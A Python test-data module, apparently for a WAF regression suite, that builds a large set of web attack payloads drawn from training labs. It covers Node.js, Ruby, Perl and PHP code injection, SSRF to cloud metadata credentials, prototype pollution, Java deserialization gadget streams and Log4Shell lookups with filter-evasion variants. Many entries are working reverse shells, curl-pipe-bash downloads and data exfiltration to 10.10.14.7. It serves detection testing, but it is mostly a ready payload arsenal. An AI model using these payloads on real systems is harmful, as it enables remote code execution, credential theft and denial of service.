"""Blind set "hundredseventieth": Node.js, SSRF, prototype pollution, Ruby, Perl, PHP data: includes, Java and
server-side template injection the way students and instructors solve web-security training labs, with benign
requests that carry the same words innocently.

The angle: the deliberately vulnerable labs and academy exercises, recalled from memory (DVWA at each security
level, OWASP Juice Shop challenges, WebGoat lessons, NodeGoat, RailsGoat, bWAPP, Mutillidae, HackTheBox and
TryHackMe web boxes, online academies' lab solutions). For each family the set holds the first probe a student
types, the working exploit from the solution, and the "harder level" variant that defeats the lab's naive filter
(case changes, keywords doubled so that a single strip rebuilds them, alternative syntax, encodings). A comment
above each group names the lab or exercise and the target (interpreter, shell, metadata service, template engine,
product).

Families:
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, Fastjson, Jackson), class-loading,
    jsp-upload
  ssti (one sub-family per engine): jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Whole documents go as the body they are (JSON documents for
prototype pollution, Fastjson/Jackson and the Log4Shell login forms, XStream/XMLDecoder/SOAP documents as XML,
Ruby and SnakeYAML gadgets as YAML); bracket pairs (`__proto__[isAdmin]=true`, Spring4Shell's
`class.module.classLoader...=`, EJS `settings[view options]...=`) go as raw `name=value` pairs; Struts2's
S2-045 goes in Content-Type, the Spring Cloud Function expression in its routing header, Confluence's OGNL in the
path; JSP web shells go up as file names (the upload carries the shell). Raw Java serialization streams (bytes
ac ed 00 05) travel percent-encoded in a query, form body or parameter name; their base64 (rO0AB), gzip+base64
(H4sI) and hex (aced0005) forms go anywhere. Payloads with newlines never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
training labs' solutions as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredseventieth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
YB = ("yaml-body", "rs-yaml-body")
XD = ("xml", "rs-xml")
QS = ("query", "rs-query")
FB = ("form", "rs-raw-body")
UP = ("multipart-filename", "rs-multipart-filename")
CT = ("header:Content-Type", "rs-header:Content-Type")


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _u16(n: int) -> bytes:
    return n.to_bytes(2, "big")


def jstream(cls: str, suid: int, fields: Sequence[tuple[str, str]] = ()) -> bytes:
    """A Java serialization stream (ObjectOutputStream, version 5) of one object of class `cls` with String
    fields: magic ac ed 00 05, TC_OBJECT, TC_CLASSDESC, the fields' descriptors, TC_ENDBLOCKDATA, no superclass,
    then the values."""
    out = b"\xac\xed\x00\x05\x73\x72" + _u16(len(cls)) + cls.encode() + suid.to_bytes(8, "big", signed=True)
    out += b"\x02" + _u16(len(fields))
    for name, _ in fields:
        out += b"L" + _u16(len(name)) + name.encode() + b"\x74" + _u16(18) + b"Ljava/lang/String;"
    out += b"\x78\x70"
    for _, value in fields:
        out += b"\x74" + _u16(len(value)) + value.encode()
    return out


def raw(stream: bytes) -> str:
    """The stream's bytes held as latin-1 text (sent percent-encoded byte for byte)."""
    return stream.decode("latin-1")


def ser64(stream: bytes) -> str:
    return base64.b64encode(stream).decode()


def gz64(stream: bytes) -> str:
    return base64.b64encode(gzip.compress(stream, mtime=0)).decode()


def char_codes(js: str) -> str:
    return ",".join(str(ord(ch)) for ch in js)


REVSHELL = "bash -i >& /dev/tcp/10.10.14.7/4444 0>&1"

# ----------------------------------------------------------------------------------------------------------------
# generic
# nodejs-injection: input reaching eval(), Function, vm or a require() in the Node.js interpreter
NODE_INJECTION: list[Entry] = [
    # NodeGoat "Contributions" (server-side JS injection): preTax goes through eval(); first probe, then the exploit
    "res.end('pwned')",
    "res.end(require('fs').readdirSync('.').toString())",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "require('child_process').exec('nc -e /bin/sh 10.10.14.7 4444')",
    # TryHackMe Node boxes: the calculator field is eval()'d, the answer comes back in the page
    "require('child_process').execSync('id').toString()",
    "global.process.mainModule.require('child_process').execSync('cat /flag.txt').toString()",
    "process.mainModule.constructor._load('child_process').execSync('whoami').toString()",
    "JSON.stringify(process.env)",
    # the lab blacklists the word "require": bracket access and string concatenation rebuild it
    "global['proc'+'ess']['mainMo'+'dule']['requ'+'ire']('child_'+'process')['exe'+'cSync']('id').toString()",
    "process['mainModule']['constructor']['_load']('child\\x5fprocess')['execSync']('ls -la /')",
    "eval(String.fromCharCode(" + char_codes("require('child_process').execSync('id').toString()") + "))",
    "eval(Buffer.from('" + b64("require('child_process').execSync('uname -a')") + "','base64').toString())",
    # vm/vm2 sandbox escapes (HackTheBox calculator boxes): climb from a host object to the real process
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function('return process')().mainModule.require('fs').readFileSync('/root/root.txt','utf8')",
    "new Function('return this.process.mainModule.require(\"child_process\").execSync(\"ls\")')()",
    "(async function(){}).constructor('return process')().mainModule.require('child_process').execSync('id')",
    # string breakout: the lab eval()s `'Hello ' + input + '!'`
    "'+require('child_process').execSync('id')+'",
    "';return require('fs').readFileSync('/flag').toString();//",
    # node-serialize (TryHackMe "Node" style): the profile cookie is unserialize()d, an IIFE runs on read
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('" + REVSHELL + "')}()\"}",
    b64("{\"username\":\"_$$ND_FUNC$$_function(){require('child_process').exec('ping -c 3 10.10.14.7')}()\"}"),
    # reverse shells typed into the eval sink
    "require('child_process').spawn('/bin/sh',['-c','" + REVSHELL + "'])",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
    "var c=new net.Socket();c.connect(4444,'10.10.14.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})()",
]

# nodejs-dos: block the Node.js event loop or exhaust its heap (NodeGoat eval sink, ReDoS exercises)
NODE_DOS: list[Entry] = [
    # NodeGoat's own denial-of-service step: the eval'd contribution never returns or kills the worker
    "while(1)",
    "while(true){}",
    "process.exit()",
    "process.abort()",
    # memory exhaustion through the eval sink
    "Array(1e9).fill('A')",
    "'x'.repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "new Array(4294967295).join('AAAA')",
    "let a=[];while(1)a.push(new Array(1e6))",
    "require('fs').readFileSync('/dev/zero')",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "require('child_process').execSync(':(){ :|:& };:')",
    # ReDoS exercises: the lab builds new RegExp(input) and tests a long string
    "(a+)+$",
    "^(a|aa)+$",
    "((a*)*)*b",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    # ... or matches a catastrophic email/url pattern against the student's input
    "a" * 48 + "!",
    "a@" + "a" * 60 + "." + "a" * 40 + "!",
    "RegExp('(x+x+)+y').test('x'.repeat(5000))",
]

# ssrf-cloud-metadata: the metadata services of AWS, GCP, Azure, Alibaba, DigitalOcean, Oracle, OpenStack
SSRF_METADATA: list[Entry] = [
    # flaws.cloud level 5 and the academy's "SSRF to cloud credentials" lab: AWS IMDSv1
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/admin",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://4d0cf09b9b2d761a7d87be99d17507bce8b86f3b.flaws.cloud/proxy/169.254.169.254/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    # GCP (v1beta1 needs no Metadata-Flavor header), GKE's kube-env
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=json",
    "http://metadata/computeMetadata/v1/instance/attributes/kube-env",
    # Azure IMDS and its managed-identity token
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://management.azure.com/",
    # Alibaba Cloud, DigitalOcean, Oracle Cloud, OpenStack
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # the lab blocks the string 169.254.169.254: the same address in decimal, hex, octal, IPv6-mapped, DNS
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0xA9.0xFE.0xA9.0xFE/latest/user-data",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://trusted.example@169.254.169.254/latest/meta-data/",
]

# ssrf-internal-ip: loopback and private addresses, their short and encoded forms, non-HTTP schemes
SSRF_INTERNAL: list[Entry] = [
    # the academy's "Basic SSRF against the local server" and "... another back-end system" (stockApi)
    "http://localhost/admin",
    "http://localhost/admin/delete?username=carlos",
    "http://192.168.0.68:8080/admin",
    "http://127.0.0.1:8080/manager/html",
    # "SSRF with blacklist-based input filter": short and encoded loopback forms, a double-encoded path
    "http://127.1/%61dmin",
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://0177.0.0.1/",
    "http://[::1]/admin",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://localtest.me/admin",
    # "SSRF with whitelist-based input filter": the allowed host after @ and an encoded fragment
    "http://localhost:80%23@stock.weliketoshop.net/admin/delete?username=carlos",
    # internal services the HackTheBox boxes hide behind the SSRF (Elasticsearch, Docker, Consul, kubelet)
    "http://127.0.0.1:9200/_cat/indices",
    "http://localhost:2375/containers/json",
    "http://127.0.0.1:8500/v1/agent/self",
    "https://10.0.0.1:10250/pods",
    # non-HTTP schemes the fetcher (curl) also speaks
    "file:///etc/passwd",
    "file://localhost/proc/self/environ",
    "dict://127.0.0.1:6379/info",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php"
    "%0D%0ASET%20x%20%22%3C%3Fphp%20system($_GET[0]);%3F%3E%22%0D%0ASAVE%0D%0A",
    "gopher://127.0.0.1:11211/_set%20pwn%200%200%205%0d%0ahello%0d%0a",
    "gopher://127.0.0.1:25/_HELO%20lab%0d%0aMAIL%20FROM:<a@lab>%0d%0aRCPT%20TO:<root@localhost>%0d%0a",
    "ldap://127.0.0.1:389/%0astats%0aquit",
]

# javascript-prototype-pollution: Object.prototype reached through qs/Express parsing, lodash/merge, jQuery
PROTO: list[Entry] = [
    # the academy's client-side labs: the query string is merged into a config object (browser gadgets)
    ("__proto__[transport_url]=data:,alert(document.domain);//", *QS),
    ("__proto__[sequence]=alert(1)-", *QS),
    ("constructor[prototype][transport_url]=data:,alert(1);", *QS),
    ("__proto__.hitCallback=alert(document.cookie)", *QS),
    ("__proto__[value]=data:,alert(1);", *FB),
    ("__proto__[context]=<img/src/onerror=alert(1)>&__proto__[jquery]=x", *QS),
    # the lab strips "__proto__" once and does not recurse: the doubled keyword survives
    ("__pro__proto__to__[gadget]=alert(1)", *QS),
    ("constconstructorructor[protoprototypetype][isAdmin]=true", *FB),
    # Express + qs, server side: become admin
    ("__proto__[isAdmin]=true", *QS),
    ("__proto__[admin]=1", *FB),
    ("constructor[prototype][role]=admin", *QS),
    # the academy's server-side labs: JSON merged with a recursive merge (detection, privilege, RCE)
    ("{\"address_line_1\":\"x\",\"__proto__\":{\"isAdmin\":true}}", *JB),
    ("{\"__proto__\":{\"json spaces\":10}}", *JB),
    ("{\"__proto__\":{\"status\":555}}", *JB),
    ("{\"__proto__\":{\"content-type\":\"application/json; charset=utf-7\"}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", *JB),
    ("{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('curl https://10.10.14.7')\"]}}",
     *JB),
    ("{\"__proto__\":{\"shell\":\"vim\",\"input\":\":! cat /home/carlos/secret | base64 | curl -d @- "
     "https://10.10.14.7\\n\"}}", *JB),
    # HackTheBox "Gunship": pug AST injection through polluted block.line
    ("{\"artist.name\":\"Haigh\",\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule."
     "require('child_process').execSync('cat /app/flag* > /app/static/out')\"}}}", *JB),
    # EJS and lodash.template gadgets for the same merge
    ("{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}",
     *JB),
    ("{\"__proto__\":{\"sourceURL\":\"\\u000areturn e=>{return global.process.mainModule.require('child_process')"
     ".execSync('id')}\"}}", *JB),
]

# ruby-injection: Ruby interpreter sinks (eval, system, backticks, Kernel#open pipes, ERB, YAML.load)
RUBY: list[Entry] = [
    # RailsGoat / Sinatra labs: the parameter is eval()'d
    "`id`",
    "%x(id)",
    "%x{cat /flag.txt}",
    "system('id')",
    "exec('/bin/sh -i')",
    "Kernel.exec('cat /etc/passwd')",
    "IO.popen('id').read",
    "require 'open3'; Open3.capture2('id')",
    # the lab blacklists "system" and backticks: send/const_get/string building reach the same method
    "send(:sys.to_s+'tem','id')",
    "Object.const_get(:Kernel).send(:system,'whoami')",
    "__send__('sys'+'tem','cat /etc/passwd')",
    "instance_eval('sy'+'stem(\"id\")')",
    # string interpolation inside an eval'd double-quoted string
    "#{`id`}",
    "#{system('touch /tmp/pwned')}",
    # Kernel#open / URI.open with a leading pipe (the "open a URL" lab)
    "|id",
    "| curl http://10.10.14.7/x.sh | bash",
    "open('|bash -c \"" + REVSHELL + "\"').read",
    # ERB rendered with user input (Ruby side of the Rails report builder)
    "ERB.new('<%= `id` %>').result",
    # YAML.load on a Rails app: the universal Ruby 2.x gadget and the old Rails NamedRouteCollection one
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", *YB),
    ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
     "? ! \"foo; system('id')\\n__END__\\n\"\n: !ruby/struct\n  defaults:\n    :action: create\n"
     "    :controller: foos\n", *YB),
    ("--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
     "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
     "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec: *1\n", *YB),
]

# perl-injection: Perl interpreter and CGI sinks (two-argument open, system, eval, qx, backticks)
PERL: list[Entry] = [
    # CGI labs: two-argument open() on the parameter, a pipe at either end runs a command
    "id|",
    "ls -la /|",
    "|cat /etc/passwd",
    "|/bin/uname -a|",
    # awstats (CVE-2005-0116) in the HackTheBox retired boxes: configdir reaches open()
    "|echo;id;echo|",
    # the eval'd calculator field
    ";system('id');",
    "system(\"cat /etc/passwd\")",
    "exec('/bin/sh', '-i')",
    "qx{id}",
    "qx/cat \\/etc\\/shadow/",
    "`uname -a`",
    "readpipe('id')",
    "eval{system('id')}",
    "eval 'system(q{whoami})'",
    # interpolation inside a string that is eval()'d: @{[ ]} and ${\ } run code
    "@{[system 'id']}",
    "${\\ `id`}",
    "open(F,'|/bin/sh');print F 'id'",
    # the lab blacklists "system": the code hex- or base64-packed, then eval'd
    "eval(pack('H*','73797374656d282769642729'))",
    "use MIME::Base64;eval(decode_base64('" + b64("system('id')") + "'))",
    "use Socket;$i=\"10.10.14.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
]

# php-data-scheme: data: URIs handed to include()/file_get_contents() (PHP stream wrapper)
DATA_SCHEME: list[Entry] = [
    # DVWA File Inclusion, low and medium (medium strips only http:// and https://)
    "data://text/plain;base64," + b64("<?php system($_GET['cmd']); ?>"),
    "data://text/plain,<?php system('id'); ?>",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php echo shell_exec('cat /etc/passwd'); ?>",
    "data:;base64," + b64("<?php phpinfo();?>"),
    "data:,<?php system($_REQUEST['x']);?>",
    "data://text/plain;base64," + b64("<?php echo file_get_contents('/etc/passwd'); ?>"),
    "data://text/plain,%3C%3Fphp%20system%28%27id%27%29%3B%20%3F%3E",
    # bWAPP RFI/LFI and Mutillidae: write a persistent shell next to the page
    "data://text/plain;base64," + b64("<?php file_put_contents('s.php','<?php system($_GET[0]); ?>'); ?>"),
    "data:text/plain;base64," + b64("<?php eval($_POST['x']); ?>"),
    "data://text/plain;base64," + b64("<?php exec(\"" + REVSHELL + "\"); ?>"),
    # harder levels: the filter matches lowercase "data:" or removes it once
    "DATA://text/plain;base64," + b64("<?php passthru('id'); ?>"),
    "dAtA://text/plain,<?=`id`?>",
    "datdata:a://text/plain,<?php system('whoami'); ?>",
    "data://text/plain;charset=utf-8;base64," + b64("<?=system($_GET['c']);?>"),
    "data:image/png;base64," + b64("<?php system('ls -la'); ?>"),
    "data://text/html,<?php readfile('/var/www/html/config.php'); ?>",
    "data://text/plain;base64," + b64("<?php echo `id`; ?>") + "&cmd=id",
]

# ----------------------------------------------------------------------------------------------------------------
# java
# java-class-names: Java code reaching the JVM through a scripting sink (Groovy/BeanShell consoles, JShell, eval labs)
JAVA_CLASSES: list[Entry] = [
    # WebGoat-style "code injection" exercise and the Jenkins script console (HackTheBox "Jeeves"), first probes
    "java.lang.System.getProperty(\"user.name\")",
    "java.lang.System.getenv()",
    "java.lang.System.exit(0)",
    "java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\")",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id > /tmp/out\"})",
    # reflection, when the lab blacklists the literal "Runtime.getRuntime"
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "Class.forName(\"java.lang.Run\"+\"time\").getMethod(\"exec\",String.class).invoke(Class.forName("
    "\"java.lang.Run\"+\"time\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    # script engines inside the JVM
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"new java.lang.ProcessBuilder"
    "('id').start()\")",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    # file reads the lab's flag step asks for
    "new java.util.Scanner(new java.io.File(\"/flag.txt\")).useDelimiter(\"\\\\Z\").next()",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "new java.io.FileInputStream(\"/opt/tomcat/conf/tomcat-users.xml\").readAllBytes()",
    # JNDI reached directly from the script sink
    "new javax.naming.InitialContext().lookup(\"ldap://10.10.14.7:1389/Exploit\")",
    "java.lang.reflect.Method m=Runtime.class.getMethod(\"exec\",String.class);m.invoke(Runtime.getRuntime(),"
    "\"id\")",
    "sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\")",
]

# java-process-spawn: starting an OS process from Java or Groovy (Runtime.exec, ProcessBuilder, String.execute)
JAVA_SPAWN: list[Entry] = [
    # Jenkins script console (HackTheBox "Jeeves", TryHackMe "Alfred"): Groovy's String.execute()
    "'id'.execute().text",
    "println \"whoami\".execute().text",
    "\"cat /etc/passwd\".execute().text",
    "['bash','-c','curl 10.10.14.7/s.sh|bash'].execute()",
    "def sout = new StringBuilder(); def proc = 'ls -la /'.execute(); proc.consumeProcessOutput(sout, sout); "
    "proc.waitForOrKill(1000); println sout",
    "String host=\"10.10.14.7\";int port=4444;String cmd=\"cmd.exe\";Process p=new ProcessBuilder(cmd)"
    ".redirectErrorStream(true).start();Socket s=new Socket(host,port);",
    "\"powershell -c IEX(New-Object Net.WebClient).DownloadString('http://10.10.14.7/rev.ps1')\".execute()",
    # ProcessBuilder from any Java sink
    "new ProcessBuilder(\"/bin/sh\",\"-c\",\"id\").start()",
    "new java.lang.ProcessBuilder(new String[]{\"cmd.exe\",\"/c\",\"whoami\"}).start()",
    "new ProcessBuilder(\"bash\",\"-c\",\"" + REVSHELL + "\").redirectErrorStream(true).start()",
    "new ProcessBuilder(\"nc\",\"10.10.14.7\",\"4444\",\"-e\",\"/bin/sh\").inheritIO().start()",
    "new ProcessBuilder(java.util.Arrays.asList(\"sh\",\"-c\",\"wget 10.10.14.7/x -O /tmp/x\")).start()",
    # Runtime.exec: no shell, so the academy's brace-and-base64 trick carries the redirections
    "Runtime.getRuntime().exec(\"bash -c {echo," + b64(REVSHELL) + "}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(\"cmd /c ping -n 10 127.0.0.1\")",
    "Runtime r=Runtime.getRuntime();Process p=r.exec(new String[]{\"/bin/bash\",\"-c\",\"exec 5<>/dev/tcp/"
    "10.10.14.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done\"});p.waitFor();",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "org.apache.commons.io.IOUtils.toString(Runtime.getRuntime().exec(\"uname -a\").getInputStream())",
    "java.lang.Runtime.getRuntime().exec(\"curl -F f=@/etc/passwd http://10.10.14.7/\").waitFor()",
]

# java-serialization: ObjectInputStream streams (magic ac ed 00 05) as raw bytes, base64, gzip+base64 and hex
WEBGOAT_TASK = "org.dummy.insecure.framework.VulnerableTaskHolder"
CC1 = jstream("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397)
CC2 = jstream("java.util.PriorityQueue", -7720805057305804111)
CC5 = jstream("javax.management.BadAttributeValueExpException", -3105272988410493376)
CC6 = jstream("java.util.HashSet", -5024744406713321676)
URLDNS = jstream("java.util.HashMap", 362498820763181265)
JAVA_SERIAL: list[Entry] = [
    # WebGoat "Insecure Deserialization": the token is a VulnerableTaskHolder whose taskAction runs (sleep 5)
    ser64(jstream(WEBGOAT_TASK, 2, [("taskAction", "sleep 5"), ("taskName", "delay")])),
    ser64(jstream(WEBGOAT_TASK, 2, [("taskAction", "ping localhost -c 5"), ("taskName", "ping")])),
    raw(jstream(WEBGOAT_TASK, 2, [("taskAction", "sleep 5"), ("taskName", "delay")])),
    # the academy's "Exploiting Java deserialization with Apache Commons": the session cookie is a stream
    ser64(CC1),
    ser64(CC2),
    ser64(CC5),
    ser64(CC6),
    ser64(URLDNS),
    # the same objects as raw bytes (the body of a JBoss invoker or a binary endpoint), percent-encoded in transit
    raw(CC1),
    raw(CC2),
    raw(CC6),
    raw(URLDNS),
    raw(jstream("org.jboss.invocation.MarshalledValue", -1337983765417212810)),
    # hex dumps pasted into a hex parameter, gzip+base64 (H4sI) when the app compresses its state
    CC1.hex(),
    CC5.hex().upper(),
    gz64(CC2),
    gz64(URLDNS),
    # base64url (no padding) in a JWT-like session token, when the lab's filter only looks for "rO0AB"
    base64.urlsafe_b64encode(CC6).decode().rstrip("="),
]

# deserialization-gadgets: the gadget chains' own classes (commons-collections, spring, groovy, jdk7u21, c3p0,
# rome, hibernate, commons-beanutils) in serialized streams and in the JSON/XML that instantiates them
INVOKER = jstream("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688,
                  [("iMethodName", "exec")])
GADGETS: list[Entry] = [
    # commons-collections 3 (CommonsCollections1/5/6) and 4 (CommonsCollections2/4)
    ser64(INVOKER),
    raw(INVOKER),
    ser64(jstream("org.apache.commons.collections.functors.ChainedTransformer", 3514945074733160196)),
    ser64(jstream("org.apache.commons.collections.map.LazyMap", 7990956402564206740)),
    ser64(jstream("org.apache.commons.collections4.comparators.TransformingComparator", 3456940356043606220)),
    # Spring1/Spring2
    ser64(jstream("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 1,
                  [("methodName", "newTransformer")])),
    ser64(jstream("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                  -6182325880298063406)),
    # Groovy1: ConvertedClosure around a MethodClosure of "execute"
    ser64(jstream("org.codehaus.groovy.runtime.ConvertedClosure", -6542254476493568530,
                  [("methodName", "entrySet")])),
    raw(jstream("org.codehaus.groovy.runtime.MethodClosure", 8486640612585549226, [("method", "execute")])),
    # Jdk7u21: TemplatesImpl carrying the bytecode, reached through AnnotationInvocationHandler
    ser64(jstream("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707,
                  [("_name", "Pwnr")])),
    # C3P0 (serialized and through Fastjson/Jackson), ROME, Hibernate1, CommonsBeanutils1
    ser64(jstream("com.mchange.v2.c3p0.PoolBackedDataSource", -2440162180985815128)),
    ("{\"@type\":\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",\"userOverridesAsString\":"
     "\"HexAsciiSerializedMap:" + INVOKER.hex() + ";\"}", *JB),
    ("[\"com.mchange.v2.c3p0.JndiRefForwardingDataSource\",{\"jndiName\":\"ldap://10.10.14.7:1389/Exploit\","
     "\"loginTimeout\":0}]", *JB),
    ser64(jstream("com.sun.syndication.feed.impl.ObjectBean", 1, [("_beanClass", "TemplatesImpl")])),
    raw(jstream("com.sun.syndication.feed.impl.ToStringBean", 1)),
    ser64(jstream("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 1,
                  [("propertyName", "outputProperties")])),
    ser64(jstream("org.hibernate.engine.spi.TypedValue", -6434217089283574716)),
    ser64(jstream("org.apache.commons.beanutils.BeanComparator", -2044202215314119608,
                  [("property", "outputProperties")])),
]

# log4shell: ${jndi:...} lookups logged by Log4j 2 (User-Agent, X-Api-Version, form fields), nested and encoded
LOG4SHELL: list[Entry] = [
    # TryHackMe "Solar" (Apache Solr) and the X-Api-Version lab: the first probe and the marshalsec exploit
    "${jndi:ldap://10.10.14.7:1389/a}",
    "${jndi:ldap://10.10.14.7:1389/Exploit}",
    "${jndi:rmi://10.10.14.7:1099/Object}",
    "${jndi:dns://10.10.14.7/probe}",
    "${jndi:ldaps://10.10.14.7:636/a}",
    "${jndi:iiop://10.10.14.7:1050/a}",
    "${jndi:ldap://10.10.14.7:1389/Basic/Command/Base64/" + b64("touch /tmp/pwned") + "}",
    "${jndi:ldap://10.10.14.7:1389/o=tomcat}",
    # HackTheBox "Unified" (UniFi): the remember field of the login JSON
    ("{\"username\":\"admin\",\"password\":\"x\",\"remember\":\"${jndi:ldap://10.10.14.7:1389/o=tomcat}\","
     "\"strict\":true}", *JB),
    # exfiltration through nested lookups in the DNS name
    "${jndi:ldap://${env:USER}.c0ffee.oastify.com/a}",
    "${jndi:dns://${sys:java.version}.${hostName}.c0ffee.oastify.com/v}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.10.10.14.7.nip.io/k}",
    # the lab's WAF blocks "jndi" and "ldap": lookups that rebuild the words
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://10.10.14.7/a}",
    "${${upper:j}ndi:${upper:l}dap://10.10.14.7/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://10.10.14.7/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//10.10.14.7/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://10.10.14.7/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://10.10.14.7/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://10.10.14.7/a}",
    # CVE-2021-45046 (2.15 localhost-only bypass) and CVE-2021-45105 (recursion DoS)
    "${jndi:ldap://127.0.0.1#10.10.14.7:1389/a}",
    "${${::-${::-$${::-j}}}}",
    # encoded as students paste it: URL-encoded, and JSON unicode escapes Jackson decodes before logging
    "%24%7Bjndi%3Aldap%3A%2F%2F10.10.14.7%3A1389%2Fa%7D",
    ("{\"username\":\"${\\u006a\\u006e\\u0064\\u0069:ldap://10.10.14.7:1389/a}\",\"password\":\"x\"}", *JB),
]

